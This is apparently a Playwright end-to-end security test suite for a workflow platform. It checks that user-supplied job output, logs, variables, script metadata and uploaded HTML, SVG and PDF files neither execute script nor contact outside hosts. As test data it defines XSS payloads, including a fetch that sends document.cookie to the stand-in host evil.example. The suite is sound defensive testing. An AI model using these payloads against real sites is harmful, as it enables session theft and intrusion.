"""C20: nothing that users bring in runs in our origin or tells the outside of it, whichever page shows it."""

from collections.abc import AsyncIterator
from dataclasses import dataclass
from urllib.parse import quote

import httpx
import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page, Request, expect

from tests.end_to_end.running import Tidemill
from tests.web.conftest import TIMEOUT_MS, sign_in

pytestmark = pytest.mark.asyncio(loop_scope="session")

OUTSIDE = "https://evil.example"
SCRIPT = (
    f"<script>top.pwned=1;parent.pwned=1;window.pwned=1;fetch('{OUTSIDE}/?'+document.cookie)</script>"
    f"<img src=x onerror=\"top.pwned=1;window.pwned=1\"><img src='{OUTSIDE}/seen.png'>"
    f"<a href=\"javascript:top.pwned=1\">press</a><iframe src='{OUTSIDE}/frame'></iframe>"
    f"<form action='{OUTSIDE}/form'><input autofocus onfocus='top.pwned=1'></form>"
    "<meta http-equiv=refresh content='0;url=javascript:top.pwned=1'>"
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="top.pwned=1;window.pwned=1">'
    f"<script>top.pwned=1;window.pwned=1;fetch('{OUTSIDE}')</script>"
    f'<image href="{OUTSIDE}/svg.png"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</body></foreignObject></svg>'
)
LOG = f"\x1b[31m{SCRIPT}\x1b]8;;javascript:top.pwned=1\x07press\x1b]8;;\x07"
RESULTS = {
    "html": {"html": SCRIPT},
    "svg": {"svg": SVG},
    "markdown": {"markdown": f"# Seen\n\n{SCRIPT}\n\n[press](javascript:top.pwned=1) ![x]({OUTSIDE}/md.png)"},
    "table": [{SCRIPT: SCRIPT, "n": 1}],
    "file": {"file": {"content": "PHNjcmlwdD4=", "filename": f"{SCRIPT}.html"}},
}
NAME = "<img src=x onerror=top.pwned=1>.html"


@dataclass(frozen=True)
class Watched:
    """An admin's page, and what it asked of the outside."""

    page: Page
    asked: list[Request]

    async def show(self, address: str, words: str = "") -> None:
        """Open it, wait until `words` are there, and see that nothing of the user's ran."""
        await self.page.goto(address)
        if words:
            await self.page.get_by_text(words).first.wait_for()
        await self.page.wait_for_load_state("networkidle")
        await self.unharmed()

    async def unharmed(self) -> None:
        """Nothing ran, and nobody outside was asked."""
        await self.ran_nothing()
        for each in self.asked:
            await each.response()  # which there is, or a failure
        # Chromium tells now and then of what a page's policy kept it from asking.
        assert [each.url for each in self.asked if each.failure != "csp"] == []

    async def ran_nothing(self) -> None:
        """Whatever it may have asked for."""
        for frame in self.page.frames:
            assert await frame.evaluate("window.pwned") is None, frame.url


@pytest_asyncio.fixture(loop_scope="session")
async def watched(browser: Browser, tidemill: Tidemill) -> AsyncIterator[Watched]:
    """A page of its own: it may complain of what it refused, and must ask nobody but its server."""
    context = await browser.new_context(base_url=tidemill.url)
    context.set_default_timeout(TIMEOUT_MS)
    asked: list[Request] = []
    own = (
        tidemill.url,
        "blob:",
        "data:",
        "about:",
        "chrome:",
        "chrome-extension:",
    )  # the last are Chromium's view of PDF
    context.on("request", lambda request: None if request.url.startswith(own) else asked.append(request))
    page = await context.new_page()
    await sign_in(page, tidemill)
    yield Watched(page, asked)
    await context.close()


def ran(api: httpx.Client, content: str) -> str:
    """The id of a job that has ended."""
    body = {"language": "python3", "content": content, "args": {}}
    job = api.post("jobs/run/preview", json=body)
    assert job.status_code == 201, job.text
    api.get(f"jobs_u/getupdate/{job.text}", params={"running": True, "log_offset": 0})
    for _ in range(100):
        if api.get(f"jobs_u/completed/get_result_maybe/{job.text}").json()["completed"]:
            break
    return job.text


@pytest.mark.parametrize("kind", RESULTS)
async def test_results_run_nothing(watched: Watched, api: httpx.Client, kind: str) -> None:
    job = ran(api, f"def main():\n    print({LOG!r})\n    return {RESULTS[kind]!r}\n")
    await watched.show(f"/w/main/runs/{job}", "success")


async def test_errors_and_their_words_run_nothing(watched: Watched, api: httpx.Client) -> None:
    job = ran(api, f"def main():\n    raise ValueError({SCRIPT!r})\n")
    await watched.show(f"/w/main/runs/{job}", "ValueError")


async def test_descriptions_and_values_run_nothing(watched: Watched, api: httpx.Client) -> None:
    body = {"path": "u/admin/untrusted", "value": SCRIPT, "is_secret": False, "description": SCRIPT}
    assert api.post("variables/create", json=body).status_code == 201
    api.post("variables/update/u/admin/untrusted", json={"value": SVG})
    source = f'def main(name: str = {SCRIPT!r}):\n    """{SCRIPT.replace(chr(34), chr(39))}"""\n    return name\n'
    made = {"path": "u/admin/untrusted", "summary": SCRIPT, "description": SCRIPT, "content": source}
    schema = {"type": "object", "properties": {"name": {"type": "string", "description": SCRIPT, "title": SCRIPT}}}
    assert api.post("scripts/create", json={**made, "language": "python3", "schema": schema}).status_code == 201
    for place in ("variables", "variables/p/u/admin/untrusted", "scripts", "scripts/p/u/admin/untrusted", "audit", ""):
        await watched.show(f"/w/main/{place}", "untrusted")
    api.delete("variables/delete/u/admin/untrusted")
    api.post("scripts/archive/p/u/admin/untrusted")


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        (NAME, SCRIPT, "text/html"),
        ("picture.svg", SVG, "image/svg+xml"),
        ("page.xhtml", SVG, "application/xhtml+xml"),
        ("notes.md", SCRIPT, "text/markdown"),
        ("paper.pdf", f"%PDF-1.4\n{SCRIPT}", "application/pdf"),
    ],
    ids=["html", "svg", "xhtml", "markdown", "pdf"],
)
async def test_objects_run_nothing(
    watched: Watched, api: httpx.Client, tidemill: Tidemill, name: str, content: str, content_type: str
) -> None:
    key = f"u/admin/untrusted/{name}"
    where = {"file_key": key, "content_type": content_type, "content_disposition": "inline"}
    assert api.post("job_helpers/upload_s3_file", params=where, content=content.encode()).status_code == 200
    await watched.show(
        f"/w/main/storages/_default_?prefix=u/admin/untrusted/&key={quote(key)}", name.rsplit(".", maxsplit=1)[-1]
    )
    signed = api.post("apps/sign_s3_objects", json={"s3_objects": [{"s3": key}]}).json()[0]
    link = f"{tidemill.api}/s3_proxy/_default_/{quote(key)}?{signed['presigned']}"
    for address in (f"{tidemill.api}/job_helpers/download_s3_file?file_key={quote(key)}", link):
        answer = api.get(address)
        assert answer.status_code == 200, answer.text
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in answer.headers["content-security-policy"]
    # Opened by itself, a page may show pictures from elsewhere; who shows them learns neither who looks nor at what.
    await watched.page.goto("about:blank")
    await watched.page.set_content(f"<iframe src='{link}'></iframe>")
    await watched.page.wait_for_load_state("networkidle")
    await watched.ran_nothing()
    told = [await each.all_headers() for each in watched.asked]
    assert all("cookie" not in each and key not in each.get("referer", "") for each in told)


async def test_words_of_a_refusal_run_nothing(watched: Watched) -> None:
    await watched.page.goto(f"/w/main/variables/p/u/admin/{quote(SCRIPT, safe='')}")
    await expect(watched.page.get_by_role("alert").or_(watched.page.get_by_role("heading")).first).to_be_visible()
    await watched.unharmed()
